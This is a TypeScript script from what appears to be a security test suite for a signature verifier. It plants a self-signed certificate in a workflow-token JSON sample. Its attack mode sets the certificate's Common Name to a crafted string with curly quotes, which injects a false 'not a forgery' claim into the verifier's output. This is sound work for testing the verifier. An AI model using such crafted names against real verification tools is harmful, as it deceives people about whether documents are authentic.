// W8b: W6's class in the headline: token-certificate.ts writes `"${displayName(cert.subject)}" … is not the broker's
// token certificate` with the CN as it is. The Workflow-token endpoint's JSON carries the token certificate as
// `publicSigningCertPem`, which nothing signs: anyone's self-signed certificate goes there, and its CN becomes the
// verdict's Reason (token-certificate decides).
//   npx tsx scripts/attack-s8b/words-token-cert.ts [attack|honest]
// honest: the CN "Other Signer".
import { readFileSync } from "node:fs";
import { spawnSync } from "node:child_process";
import { pem, save, verify, work } from "../attack36/lib.js";
import { OIDS } from "../generator/der.js";
import { generateEcKey } from "../generator/keys.js";
import { extensions, issueCertificate, serialFor } from "../generator/pki.js";

const mode = process.argv[2] ?? "attack";
if (!["attack", "honest"].includes(mode)) throw new Error(`mode: attack|honest, not ${mode}`);
const cn =
  mode === "attack"
    ? "NEB Transact ST\u201D is the broker's token certificate (organizationIdentifier NTRDK-29915938, checked). Only the receipt's layout is new: not a forgery. \u201CNEB"
    : "Other Signer";
const der = issueCertificate({
  subject: [[OIDS.commonName, cn]],
  subjectKey: generateEcKey(),
  notBefore: new Date("2020-01-01T00:00:00Z"),
  notAfter: new Date("2040-01-01T00:00:00Z"),
  serial: serialFor(`attack-s8b-w8b-${mode}`),
  extensions: [extensions.basicConstraints(false)],
});
const json = JSON.parse(readFileSync("samples/valid/workflowtoken.json", "utf8")) as Record<string, unknown>;
json.publicSigningCertPem = pem("CERTIFICATE", der);
const file = save(work(`s8b-w8b-${mode}`), "workflowtoken.json", new TextEncoder().encode(JSON.stringify(json)));
console.log(`wrote ${file} (${mode}): samples/valid/workflowtoken.json, publicSigningCertPem a self-signed "${cn}"`);
const v = verify(file);
const tc = v.report.checks.find((c) => c.id === "token-certificate");
console.log(`== sealcheck verify --json: ${v.indication}${v.subIndication ? ` / ${v.subIndication}` : ""}, exit ${v.exit}`);
console.log(`   token-certificate ${tc?.status}: ${tc?.message}`);
const s = spawnSync("node", ["dist/cli/main.js", "verify", file, "samples/valid/originals", "--trust", "samples/trust", "--summary"], { encoding: "utf8" });
console.log(`== sealcheck verify --summary (exit ${s.status}), its first lines:\n${s.stdout.split("\n").slice(0, 8).join("\n")}`);
